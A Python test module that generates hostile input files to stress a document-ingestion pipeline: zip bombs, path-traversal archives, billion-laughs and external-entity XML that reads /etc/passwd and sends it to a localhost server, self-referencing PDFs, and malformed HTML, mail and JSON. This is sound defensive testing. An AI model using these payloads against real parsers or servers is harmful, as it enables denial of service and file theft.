"""Hostile files, made when asked for: bombs, loops, lies, cuts and misnomers, each with a name that says what it is.

All are seeded: the same name is the same file.
"""

import os
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.rag.corpus.sound_files import (
    PARTS,
    SENTENCE,
    TEXT_PARTS,
    packed,
    pdf,
    pdf_objects,
    related,
    shown,
    sound_files,
    stream,
)

MB = 2**20
CUTS = 10
FLIPS = 10


@dataclass(frozen=True, slots=True)
class HostileFile:
    """`write` puts it at a path whose name ends in `name`."""

    name: str
    write: Callable[[Path], object]

    @property
    def suffix(self) -> str:
        return Path(self.name).suffix


def hostile_files(port: int) -> Iterator[HostileFile]:
    """All of them; those that would fetch something ask 127.0.0.1 at `port` for it."""
    for make in (
        _cut,
        _flipped,
        _misnamed,
        _odd_texts,
        _zips,
        _xml(port),
        _spreadsheets,
        _pdfs,
        _web_pages(port),
        _mails,
        _records,
        _tables,
        _marked_texts,
        _large,
        _no_files,
    ):
        for name, content in make():
            yield HostileFile(name, content if callable(content) else _writer(content))


Made = Iterator[tuple[str, bytes | Callable[[Path], object]]]


def _writer(content: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(content)


# --- of every format


def _cut() -> Made:
    """Half a download."""
    for suffix, content in sound_files().items():
        for tenth in range(CUTS):
            yield f"cut at {tenth} tenths{suffix}", content[: len(content) * tenth // CUTS]


def _flipped() -> Made:
    """A bad disk: from one bit to one in a hundred."""
    for suffix, content in sound_files().items():
        for number in range(FLIPS):
            chance = random.Random(f"{suffix} {number}")
            bent = bytearray(content)
            for _ in range(1 + len(bent) * number // 12):
                bent[chance.randrange(len(bent))] ^= 1 << chance.randrange(8)
            yield f"flipped {number}{suffix}", bytes(bent)


def _misnamed() -> Made:
    files = sound_files()
    for suffix, content in files.items():
        for other in files:
            if other != suffix:
                yield f"is a {suffix[1:]}{other}", content


def _odd_texts() -> Made:
    noise = random.Random(7).randbytes(5000)
    for suffix in sound_files():
        yield f"no bytes{suffix}", b""
        yield f"a byte order mark{suffix}", b"\xef\xbb\xbf"
        yield f"zeros{suffix}", b"\0" * 5000
        yield f"noise{suffix}", noise
    for suffix in (".txt", ".md", ".csv", ".html", ".eml", ".json", ".jsonl"):
        yield f"half UTF-8{suffix}", SENTENCE.encode() + b"\xc3\x28\xff\xed\xa0\x80"
        yield f"UTF-16{suffix}", SENTENCE.encode("utf-16")
        yield f"bidi{suffix}", f"\u202e\u2066{SENTENCE}\u202c\u200b\u200f\ufffe\U000e0041".encode()
        yield f"combining{suffix}", ("a" + "\u0301" * 20_000).encode()
        yield f"line ends{suffix}", b"\r" * 50_000 + b"\n\r\x0b\x0c\x1c\xc2\x85\xe2\x80\xa8" * 10_000
        yield f"controls{suffix}", bytes(range(1, 32)) * 1000


# --- zips and XML


def repeated(before: bytes, block: bytes, times: int, after: bytes) -> bytes:
    """`before`, `block` so many times, and `after` as raw deflate, made without deflating more than one block."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(before) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    return head + body * times + deflate.compress(after) + deflate.flush()


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """Of a zip, as it is told: nothing need be true."""

    name: bytes
    raw: bytes
    size: int
    crc: int = 0
    method: int = 8
    flags: int = 0
    told_raw: int | None = None
    at: int | None = None

    def local(self) -> bytes:
        return struct.pack("<4s5H3I2H", b"PK\3\4", 20, self.flags, self.method, 0, 33, *self._sizes()) + self.name

    def central(self, at: int) -> bytes:
        return (
            struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 20, 20, self.flags, self.method, 0, 33, *self._sizes(), 0, 0, 0, 0, at
            )
            + self.name
        )

    def _sizes(self) -> tuple[int, int, int, int, int]:
        told = len(self.raw) if self.told_raw is None else self.told_raw
        return self.crc, told, self.size, len(self.name), 0


def lying_zip(entries: list[Entry]) -> bytes:
    """A zip of them; an entry with `at` has no content of its own and points there."""
    body, directory, length = [], [], 0
    for entry in entries:
        directory.append(entry.central(length if entry.at is None else entry.at))
        if entry.at is None:
            body += [entry.local(), entry.raw]
            length += len(body[-2]) + len(body[-1])
    count, listed = min(len(entries), 65_535), b"".join(directory)
    return b"".join(body) + listed + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(listed), length, 0)


def _stored(parts: dict[str, bytes], without: str = "") -> list[Entry]:
    return [
        Entry(name=name.encode(), raw=content, size=len(content), crc=zlib.crc32(content), method=0)
        for name, content in parts.items()
        if name != without
    ]


def _zips() -> Made:
    for suffix, make in PARTS.items():
        parts, target = make(), TEXT_PARTS[suffix]
        before, _, after = parts[target].partition(SENTENCE.encode())
        for what, block in (
            ("spaces", b" " * MB),
            ("words", b"An otter eats. " * (MB // 15)),
            ("tags", b"<x/>" * (MB // 4)),
        ):
            raw = repeated(before, block, 300, after)
            crc = zlib.crc32(before)
            for _ in range(300):
                crc = zlib.crc32(block, crc)
            size = len(before) + 300 * len(block) + len(after)
            bomb = Entry(name=target.encode(), raw=raw, size=size, crc=zlib.crc32(after, crc))
            yield f"bomb of {what}{suffix}", lying_zip([*_stored(parts, target), bomb])
        raw = repeated(before, b" " * MB, 4000, after)
        for what, size in (("tells no", 0), ("tells little", 1000), ("tells 4 GB", 2**32 - 2)):
            bomb = Entry(name=target.encode(), raw=raw, size=size)
            yield f"bomb that {what} size{suffix}", lying_zip([*_stored(parts, target), bomb])
        rest = _stored(parts, target)
        yield (
            f"bomb in the types{suffix}",
            lying_zip(
                [Entry(name=b"[Content_Types].xml", raw=raw, size=2**31), *rest, *_stored({target: parts[target]})]
            ),
        )
        kernel = Entry(name=b"k", raw=repeated(b"", b"\0" * MB, 200, b""), size=200 * MB)
        quine = [
            Entry(name=b"media/%d.xml" % number, raw=kernel.raw, size=kernel.size, at=0) for number in range(20_000)
        ]
        yield f"overlapping{suffix}", lying_zip([kernel, *_stored(parts), *quine])
        yield f"nested{suffix}", packed({**parts, "word/media/inner.zip": packed({"z": b"\0" * 20 * MB})})
        yield (
            f"of 50,000 files{suffix}",
            lying_zip(
                [*_stored(parts), *(Entry(name=b"f%d.xml" % number, raw=b"", size=0, at=0) for number in range(50_000))]
            ),
        )
        yield f"twice the same part{suffix}", lying_zip([*_stored(parts), *_stored(parts)])
        climbing = {f"../../{name}": content for name, content in parts.items()}
        yield f"parts that climb{suffix}", packed(climbing)
        yield f"no parts{suffix}", packed({})
        yield f"parts in other names{suffix}", packed({name.upper() + "\0": part for name, part in parts.items()})
        yield f"without its text{suffix}", packed({name: part for name, part in parts.items() if name != target})
        yield (
            f"with a password{suffix}",
            lying_zip(
                [
                    Entry(name=name.encode(), raw=b"\x5a" * 12 + part, size=len(part), crc=1, method=0, flags=1)
                    for name, part in parts.items()
                ]
            ),
        )
        yield (
            f"of another method{suffix}",
            lying_zip([Entry(name=n.encode(), raw=part, size=len(part), method=99) for n, part in parts.items()]),
        )
        yield f"bytes before and after{suffix}", b"#!/bin/sh\n" + packed(parts) + b"tail" * 100
    # What Office writes for an encrypted file is an OLE container; so is an old file of it.
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
    for suffix in (".docx", ".xlsx", ".pptx"):
        yield f"of an old Office{suffix}", ole
        yield f"in a safe{suffix}", ole + "EncryptedPackage".encode("utf-16-le")


def _xml(port: int) -> Callable[[], Made]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    quadratic = f'<!ENTITY a "{"a" * 100_000}">'
    external = '<!ENTITY x SYSTEM "file:///etc/passwd">'
    doctypes = {
        "laughs": (f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "quadratic": (f"<!DOCTYPE d [{quadratic}]>", "&a;" * 10_000),
        "loops": ('<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "reads a file": (f"<!DOCTYPE d [{external}]>", "&x;"),
        "asks a server": (f'<!DOCTYPE d [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/entity">]>', "&x;"),
        "asks for its type": (f'<!DOCTYPE d SYSTEM "http://127.0.0.1:{port}/type.dtd">', SENTENCE),
        "parameters": (
            f'<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd">'
            f"<!ENTITY % e \"<!ENTITY x SYSTEM 'http://127.0.0.1:{port}/%f;'>\">%e;]>",
            "&x;",
        ),
    }

    def make() -> Made:
        for suffix, parts_of in PARTS.items():
            target = TEXT_PARTS[suffix]
            parts = parts_of()
            text = parts[target].decode()
            for what, (doctype, body) in doctypes.items():
                head, _, rest = text.partition("?>")
                bent = f"{head}?>{doctype}{rest}".replace(SENTENCE, body)
                yield f"entity that {what}{suffix}", packed({**parts, target: bent.encode()})
            deep = f"{'<g>' * 100_000}{SENTENCE}{'</g>' * 100_000}"
            yield f"deep in XML{suffix}", packed({**parts, target: text.replace(SENTENCE, deep).encode()})
            many = " ".join(f'a{number}="x"' for number in range(100_000))
            yield f"many attributes{suffix}", packed({**parts, target: text.replace("><", f" {many}><", 1).encode()})
            yield f"in EBCDIC{suffix}", packed({**parts, target: text.replace("UTF-8", "cp037").encode("cp037")})
            yield f"in no encoding{suffix}", packed({**parts, target: text.replace("UTF-8", "klingon").encode()})
            yield f"half an XML{suffix}", packed({**parts, target: text[: len(text) // 2].encode()})
            yield f"NUL in XML{suffix}", packed({**parts, target: text.replace("otter", "\0").encode()})
            yield f"no XML{suffix}", packed({**parts, target: b"\x89PNG\r\n" * 100})
        docx, xlsx, pptx, epub = (PARTS[suffix]() for suffix in (".docx", ".xlsx", ".pptx", ".epub"))
        elsewhere = related(("officeDocument", "../../../../etc/passwd")).replace(
            b"<Rel", b'<Rel TargetMode="External"'
        )
        yield "main part elsewhere.docx", packed({**docx, "_rels/.rels": elsewhere})
        for name, parts in (("a.docx", docx), ("a.xlsx", xlsx), ("a.pptx", pptx)):
            around = related(("officeDocument", "_rels/.rels"))
            yield f"main part is its relations {name}", packed({**parts, "_rels/.rels": around})
        slide = "ppt/slides/slide1.xml"
        yield (
            "a slide 1,000 times.pptx",
            packed(
                {
                    **pptx,
                    "ppt/presentation.xml": pptx["ppt/presentation.xml"].replace(
                        b'<p:sldId id="256" r:id="rId1"/>', b'<p:sldId id="256" r:id="rId1"/>' * 1000
                    ),
                }
            ),
        )
        groups = pptx[slide].replace(b"<p:sp>", b"<p:grpSp>" * 5000 + b"<p:sp>")
        yield (
            "groups in groups.pptx",
            packed({**pptx, slide: groups.replace(b"</p:sp>", b"</p:sp>" + b"</p:grpSp>" * 5000)}),
        )
        tables = docx["word/document.xml"].replace(b"<w:p>", b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p>", 1)
        tables = tables.replace(b"</w:p>", b"</w:p>" + b"</w:tc></w:tr></w:tbl>" * 3000, 1)
        yield "tables in tables.docx", packed({**docx, "word/document.xml": tables})
        span = b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl><w:p>'
        wide = docx["word/document.xml"].replace(b"<w:p>", span, 1)
        yield "cell across two billion columns.docx", packed({**docx, "word/document.xml": wide})
        package = epub["book.opf"]
        loop = package.replace(b'href="c1.xhtml"', b'href="book.opf"')
        yield "spine of itself.epub", packed({**epub, "book.opf": loop})
        yield (
            "chapter elsewhere.epub",
            packed({**epub, "book.opf": package.replace(b"c1.xhtml", b"../../../../etc/passwd")}),
        )
        chapters = package.replace(b'<itemref idref="c1"/>', b'<itemref idref="c1"/>' * 3000)
        yield "a chapter 3,000 times.epub", packed({**epub, "book.opf": chapters})
        rights = b'<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"/>'
        yield "with rights.epub", packed({**epub, "META-INF/encryption.xml": rights, "META-INF/rights.xml": rights})

    return make


def _spreadsheets() -> Made:
    parts, sheet = PARTS[".xlsx"](), "xl/worksheets/sheet1.xml"
    cells = parts[sheet]

    def bent(old: bytes, new: bytes) -> bytes:
        assert old in cells
        return packed({**parts, sheet: cells.replace(old, new, 1)})

    yield "as large as a sheet can be.xlsx", bent(b"A1:B2", b"A1:XFD1048576")
    yield (
        "as large as a sheet can be and empty.xlsx",
        packed(
            {**parts, sheet: cells.split(b"<row")[0].replace(b"A1:B2", b"A1:XFD1048576") + b"</sheetData></worksheet>"}
        ),
    )
    yield "only the last cell.xlsx", bent(b'<row r="2"><c r="A2"', b'<row r="1048576"><c r="XFD1048576"')
    yield "a cell beyond the last.xlsx", bent(b'r="A2"', b'r="ZZZZZZZ99999999999"')
    yield "row minus one.xlsx", bent(b'<row r="2">', b'<row r="-1">')
    yield "string minus one.xlsx", bent(b"<v>0</v>", b"<v>-1</v>")
    yield "string of another table.xlsx", bent(b"<v>0</v>", b"<v>99999999</v>")
    yield "number as large as can be.xlsx", bent(b"<v>7</v>", b"<v>1e999</v>")
    yield "number of a million digits.xlsx", bent(b"<v>7</v>", b"<v>" + b"9" * MB + b"</v>")
    yield "date out of time.xlsx", bent(b'<c r="B2">', b'<c r="B2" t="d">')
    yield "formula.xlsx", bent(b"<v>7</v>", b"<f>" + b"SUM(" * 50_000 + b"</f>")
    merged = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (row, row + 1000) for row in range(1, 1000))
    yield "merged without end.xlsx", bent(b"</sheetData>", b"</sheetData><mergeCells>" + merged + b"</mergeCells>")
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (row, row, row) for row in range(3, 5000))
    yield "of 5,000 rows.xlsx", bent(b"</sheetData>", rows + b"</sheetData>")
    yield (
        "a row of 16,384 cells 3 times.xlsx",
        bent(b"</sheetData>", (b"<row>" + b"<c><v>1</v></c>" * 16_384 + b"</row>") * 3 + b"</sheetData>"),
    )
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(2, 501))
    book = parts["xl/workbook.xml"]
    yield (
        "of 500 sheets.xlsx",
        packed({**parts, "xl/workbook.xml": book.replace(b"</sheets>", sheets + b"</sheets>")}),
    )
    name = book.replace(b'name="Prices"', b'name="' + b"N" * 500_000 + b'"')
    yield "sheet of a long name.xlsx", packed({**parts, "xl/workbook.xml": name})


# --- PDF


def _pdfs() -> Made:
    sound = pdf_objects(shown(SENTENCE))
    flate = b"/Filter /FlateDecode"

    def bent(number: int, body: bytes, *more: bytes, trailer: bytes = b"") -> bytes:
        return pdf([*(body if at == number else part for at, part in enumerate(sound, 1)), *more], trailer)

    def zlibbed(before: bytes, block: bytes, times: int, after: bytes) -> bytes:
        return b"\x78\xda" + repeated(before, block, times, after) + b"\0\0\0\0"

    said = b"BT /F1 12 Tf 72 720 Td " + b"(otters) Tj " * 80_000
    yield "bomb of spaces.pdf", bent(4, stream(zlibbed(b"", b" " * MB, 2000, b""), flate))
    yield "bomb of words.pdf", bent(4, stream(zlibbed(b"", said, 300, b"ET"), flate))
    yield "bomb of saved states.pdf", bent(4, stream(zlibbed(b"", b"q " * (MB // 2), 100, b""), flate))
    yield "bomb of brackets.pdf", bent(4, stream(zlibbed(b"", b"[" * MB, 20, b""), flate))
    twice = zlib.compress(zlibbed(b"", b" " * MB, 2000, b""), 9)
    yield "bomb in a bomb.pdf", bent(4, stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))
    yield "a hundred filters.pdf", bent(4, stream(b"x", b"/Filter [" + b"/FlateDecode " * 100 + b"]"))
    yield "run lengths.pdf", bent(4, stream(b"\x81 " * MB, b"/Filter /RunLengthDecode"))
    predictor = b"/DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 32 /BitsPerComponent 16 >>"
    yield "predictor of two billion columns.pdf", bent(4, stream(zlib.compress(b"x"), flate + predictor))
    yield "page tree of itself.pdf", bent(2, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    yield (
        "page tree in a ring.pdf",
        bent(
            2,
            b"<< /Type /Pages /Kids [6 0 R] /Count 9 >>",
            b"<< /Type /Pages /Kids [2 0 R 6 0 R] /Count 9 /Parent 2 0 R >>",
        ),
    )
    deep = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % number for number in range(7, 5007)]
    yield "page tree 5,000 deep.pdf", bent(2, b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>", *deep, sound[2])
    yield "two billion pages.pdf", bent(2, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")
    yield "pages minus one.pdf", bent(2, b"<< /Type /Pages /Kids [3 0 R] /Count -1 >>")
    yield "a page 3,000 times.pdf", bent(2, b"<< /Type /Pages /Count 3000 /Kids [" + b"3 0 R " * 3000 + b"] >>")
    yield "no pages.pdf", bent(2, b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "pages that are a number.pdf", bent(2, b"42")
    yield "catalogue of itself.pdf", bent(1, b"1 0 R")
    yield (
        "parent of itself.pdf",
        bent(
            3,
            b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>",  # its size and fonts are looked for above
        ),
    )
    yield "contents of itself.pdf", bent(3, sound[2].replace(b"4 0 R", b"[" + b"4 0 R " * 100_000 + b"]"))
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    yield (
        "form in itself.pdf",
        bent(3, sound[2].replace(b"/Font", b"/XObject << /X 6 0 R >> /Font"), stream(b"/X Do /X Do", form)).replace(
            SENTENCE.encode(), b")Tj/X Do(".ljust(len(SENTENCE))
        ),
    )
    yield (
        "font of itself.pdf",
        bent(5, b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] >>"),
    )
    ranges = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"
    yield "a map of all characters.pdf", bent(5, sound[4].replace(b"/Enc", b"/ToUnicode 6 0 R /Enc"), stream(ranges))
    lone = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff> <d800> endbfrange"
    yield "a map to half characters.pdf", bent(5, sound[4].replace(b"/Enc", b"/ToUnicode 6 0 R /Enc"), stream(lone))
    yield "a box of no size.pdf", bent(3, sound[2].replace(b"0 0 612 792", b"0 0 0 0"))
    yield "a box beyond numbers.pdf", bent(3, sound[2].replace(b"612 792", b"1e38 -99999999999999999999"))
    yield "text beyond the page.pdf", bent(4, stream(b"BT /F1 1e30 Tf 1e30 -1e30 Td (otters) Tj ET"))
    lines = b"".join(b"1 0 0 1 %d %d Tm (o) Tj " % (n * 7 % 612, n * 13 % 792) for n in range(20_000))
    yield "20,000 letters all over.pdf", bent(4, stream(b"BT /F1 1 Tf " + lines + b"ET"))
    yield "arrays 200,000 deep.pdf", bent(3, sound[2].replace(b"[0 0 612 792]", b"[" * 200_000 + b"]" * 200_000))
    yield "tables 100,000 deep.pdf", bent(3, sound[2].replace(b"[0 0 612 792]", b"<< /A " * 100_000 + b">>" * 100_000))
    yield "a number of a million digits.pdf", bent(3, sound[2].replace(b"612", b"9" * MB))
    yield "a name of a million letters.pdf", bent(3, sound[2].replace(b"/F1", b"/" + b"F" * MB))
    yield "length that lies.pdf", bent(4, shown(SENTENCE).replace(b"/Length ", b"/Length 99999999"))
    yield "length of itself.pdf", bent(4, b"<< /Length 4 0 R >>\nstream\nx\nendstream")
    outlines = b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Parent 6 0 R /Title (a) >>"
    yield "outline of itself.pdf", bent(1, b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>", outlines)
    script = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1);) >> >>"
    yield "with a script.pdf", bent(1, script)
    title = b"<< /Title <feff%s> /Author (%s) /CreationDate (D:99999999999999) >>" % (b"d800" * 1000, b"\\000\\n" * 999)
    yield "title of half characters.pdf", bent(3, sound[2], title, trailer=b"/Info 6 0 R")
    key = b"/Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s>" % (b"41" * 32, b"42" * 32)
    yield "with a password.pdf", bent(3, sound[2], b"<< %s >>" % key, trailer=b"/Encrypt 6 0 R /ID [<01> <01>]")
    odd = b"<< /Filter /Unheard /V 99 /R 99 >>"
    yield "with an unheard-of lock.pdf", bent(3, sound[2], odd, trailer=b"/Encrypt 6 0 R /ID [<01> <01>]")
    yield "a lock of itself.pdf", bent(3, sound[2], b"6 0 R", trailer=b"/Encrypt 6 0 R")
    whole = pdf(sound)
    at = whole.rindex(b"xref\n0")
    yield "earlier table is this one.pdf", pdf(sound, b"/Prev %d" % at)
    yield "earlier table is elsewhere.pdf", pdf(sound, b"/Prev 99999999999 /XRefStm 99999999999")
    yield "table of four billion.pdf", whole.replace(b"xref\n0 6", b"xref\n0 4294967295")
    yield "no table.pdf", whole[:at]
    yield "table at zero.pdf", whole.replace(b"startxref\n%d" % at, b"startxref\n0")
    packed_objects = stream(b"6 0 7 0 42 43", b"/Type /ObjStm /N 2000000000 /First 999999 /Extends 6 0 R")
    yield "objects in themselves.pdf", bent(3, sound[2], packed_objects)
    index = b"/Type /XRef /Size 2147483647 /W [9 9 9] /Index [0 2147483647] /Root 1 0 R"
    yield (
        "table in a stream that lies.pdf",
        b"%PDF-1.7\n1 0 obj\n" + stream(b"\0" * 100, index) + (b"\nendobj\nstartxref\n9\n%%EOF"),
    )
    picture = b"/Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 " + flate
    yield (
        "only a huge picture.pdf",
        bent(
            3,
            sound[2].replace(b"/Font", b"/XObject << /I 6 0 R >> /Font"),
            stream(zlib.compress(b"\0" * MB), b"/Type /XObject " + picture),
        ).replace(SENTENCE.encode(), b")Tj/I Do(".ljust(len(SENTENCE))),
    )
    yield "only white.pdf", bent(4, shown(" " * 40))
    yield "after a megabyte of noise.pdf", random.Random(3).randbytes(MB) + whole
    yield "only its mark.pdf", b"%PDF-1.7\n"
    yield "only its end.pdf", b"%%EOF\n" * 10_000
    yield "a million marks.pdf", b"%PDF-1.7\n" * 100_000
    yield "a million objects.pdf", b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 300_000


# --- web pages


def _web_pages(port: int) -> Callable[[], Made]:
    server = f"http://127.0.0.1:{port}"
    words = f"<p>{SENTENCE} Nobody had seen one there before that morning.</p>" * 3

    def page(body: str, head: str = "") -> bytes:
        return f"<html><head>{head}</head><body>{body}</body></html>".encode()

    def make() -> Made:
        for tag in ("div", "b", "table><tr><td", "ul><li", "a", "font", "p", "select", "svg", "math", "blockquote"):
            yield f"many unclosed {tag[:5].strip('>< ')}.html", page(f"<{tag}>" * 100_000 + words)
        yield "divs 100,000 deep.html", page("<div>" * 100_000 + words + "</div>" * 100_000)
        yield "misnested.html", page("<b><i><p></b></i>" * 20_000 + words)
        yield "many ends.html", page("</p>" * 100_000 + words)
        yield "attributes.html", page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">" + words)
        yield "an attribute of megabytes.html", page(f'<p title="{"x" * 5 * MB}">{words}')
        yield "a tag of megabytes.html", page(f"<{'x' * 5 * MB}>{words}")
        yield "open comment.html", page("<!--" * 250_000 + words)
        yield "open script.html", page("<script>" + "</scrip" * 200_000 + words)
        yield "open angle brackets.html", page("<" * MB)
        yield "ampersands.html", page("&" * MB + words)
        yield "entities.html", page("&#xd800;&#0;&#x110000;&#99999999999;&notanentity;" * 5000 + words)
        yield "laughs.html", b'<!DOCTYPE html [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + page("&b;" + words)
        yield "reads a file.html", page(f'{words}<iframe src="file:///etc/passwd"></iframe><object data="/etc/passwd">')
        links = (
            f'<link rel=stylesheet href="{server}/a.css"><base href="{server}/"><script src="{server}/a.js"></script>'
        )
        yield "asks a server.html", page(f'{words}<img src="{server}/a.png"><iframe src="{server}/"></iframe>', links)
        yield "goes elsewhere.html", page(words, f'<meta http-equiv="refresh" content="0;url={server}/">')
        yield "style imports.html", page(words, f"<style>@import url({server}/a.css);</style>")
        include = f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{server}/"/></x>'
        yield "includes.xhtml", page(words + include)
        yield "in another charset.html", page(words, "<meta charset=klingon>")
        yield "in UTF-7.html", page("+ADw-script+AD4-" + words, "<meta charset=utf-7>")
        yield "in two charsets.html", page("\u0416" + words, "<meta charset=utf-16><meta charset=latin-1>")
        yield (
            "dates of no calendar.html",
            page(
                words, '<meta property="article:published_time" content="2025-02-31T99:99"><time datetime="99999-1-1">'
            ),
        )
        yield "data of megabytes.html", page(words, f'<script type="application/ld+json">{"[" * MB}</script>')
        yield "title of megabytes.html", page(words, f"<title>{'Otters ' * 300_000}</title>")
        yield "table of 40,000 cells.html", page(f"<table>{'<tr><td>otter<td>clam' * 20_000}</table>{words}")
        yield (
            "cell across a billion.html",
            page(f"<table><tr><td colspan=999999999 rowspan=999999999>otter</table>{words}"),
        )
        yield "list items of nothing.html", page("<ul>" + "<li>" * 50_000 + words)
        yield "white space.html", page(f"<p>a{' ' * 2 * MB}b</p><p>{chr(9) * MB}</p>{words}")
        yield "one word of megabytes.html", page(f"<p>{'x' * 3 * MB}</p>")
        yield (
            "hidden.html",
            page(f'<div style="display:none" hidden>{words}</div><p>{"".join("​" for _ in range(9999))}</p>'),
        )

    return make


# --- mail


def _mails() -> Made:
    head = "From: Ann <ann@example.org>\nSubject: Otters\nDate: Thu, 04 Sep 2025 10:00:00 +0000\n"
    mime = head + "MIME-Version: 1.0\n"

    def nested(depth: int) -> str:
        parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
        return mime + parts + f"Content-Type: text/plain\n\n{SENTENCE}\n"

    def whole(text: str) -> bytes:
        return text.encode()

    for depth in (50, 1000, 20_000):
        yield f"{depth} parts deep.eml", whole(nested(depth))
    yield "mail in mail.eml", whole(mime + "Content-Type: message/rfc822\n\n" * 3000 + f"\n{SENTENCE}")
    for field in ("Subject", "From", "Content-Type", "X-Other"):
        yield f"{field} of megabytes.eml", whole(f"{field}: {'x ' * MB}\n{head}\n{SENTENCE}\n")
    yield "address in brackets.eml", whole(f"From: {'(' * 100_000}\n\n{SENTENCE}\n")
    yield "address in quotes.eml", whole(f"From: {chr(34)}{chr(92) * 100_001}{chr(34)} <a@b>\n\n{SENTENCE}\n")
    yield "addresses without end.eml", whole(f"From: {'a,' * 100_000}\nTo: {'<' * 100_000}\n\n{SENTENCE}\n")
    yield "groups in groups.eml", whole(f"From: {'a:' * 50_000};\n\n{SENTENCE}\n")
    yield "encoded words.eml", whole(f"Subject: {'=?utf-8?q?=20?= ' * 50_000}\n\n{SENTENCE}\n")
    yield "half encoded words.eml", whole(f"Subject: {'=?utf-8?q?' * 50_000}\n\n{SENTENCE}\n")
    yield "words in no charset.eml", whole(f"Subject: =?klingon?b?/////w?=\nFrom: =?x?q?=FF?= <a@b>\n\n{SENTENCE}\n")
    yield "folded lines.eml", whole("Subject: a\n" + " \n\t" * 100_000 + f"b\n\n{SENTENCE}\n")
    yield "100,000 fields.eml", whole("X: y\n" * 100_000 + f"{head}\n{SENTENCE}\n")
    yield "many parameters.eml", whole(f"Content-Type: text/plain{'; a*0*=x' * 30_000}\n\n{SENTENCE}\n")
    yield "parameter of a billion.eml", whole(f"Content-Type: text/plain; charset*999999999*=utf-8''x\n\n{SENTENCE}\n")
    yield "no charset.eml", whole(f"{mime}Content-Type: text/plain; charset=klingon\n\n{SENTENCE}\n")
    yield "charset that is a codec.eml", whole(f"{mime}Content-Type: text/plain; charset=zlib_codec\n\n{SENTENCE}\n")
    yield (
        "charset with surrogates.eml",
        whole(f"{mime}Content-Type: text/plain; charset=utf-16-le\nContent-Transfer-Encoding: base64\n\nANgA3ADY\n"),
    )
    yield "half base64.eml", whole(f"{mime}Content-Transfer-Encoding: base64\n\n{'A' * 99_999}=?=\n")
    yield "no encoding.eml", whole(f"{mime}Content-Transfer-Encoding: x-uuencode\n\nbegin 999 a\n{'M' * 99_999}\n")
    yield (
        "soft line ends.eml",
        whole(f"{mime}Content-Transfer-Encoding: quoted-printable\n\n{'=' * 500_000}{SENTENCE}\n"),
    )
    parts = "--b\nContent-Type: text/plain\n\notter\n" * 5000
    yield "5,000 parts.eml", whole(f"{mime}Content-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n")
    yield "boundary of nothing.eml", whole(f'{mime}Content-Type: multipart/mixed; boundary=""\n\n{"--" * 100_000}\n')
    yield "boundary of megabytes.eml", whole(f"{mime}Content-Type: multipart/mixed; boundary={'b' * MB}\n\n--b\n\nx\n")
    yield "year 99999.eml", whole(f"Date: Thu, 99 Foo 99999 99:99:99 +9999\nSubject: x\n\n{SENTENCE}\n")
    yield "other web page.eml", whole(f"{mime}Content-Type: text/html\n\n{'<div>' * 200_000}{SENTENCE}\n")
    yield "only fields.eml", whole(head)
    yield "one line of megabytes.eml", whole(f"{head}\n{'x' * 5 * MB}")


# --- JSON


def _records() -> Made:
    record = f'{{"title": "Otters", "text": "{SENTENCE}"}}'
    digits = "9" * 100_000
    for suffix in (".json", ".jsonl"):
        for mark, end in (("[", "]"), ('{"a":', "}")):
            yield f"{len(mark)} brackets 100,000 deep{suffix}", f"{mark * 100_000}1{end * 100_000}".encode()
            yield f"{len(mark)} brackets left open{suffix}", (mark * 100_000).encode()
            yield f"{len(mark)} brackets 900 deep{suffix}", f"{mark * 900}{record}{end * 900}".encode()
        yield f"half characters{suffix}", b'{"title": "\\ud800", "text": "The otter \\udfff eats \\u0000 clams."}'
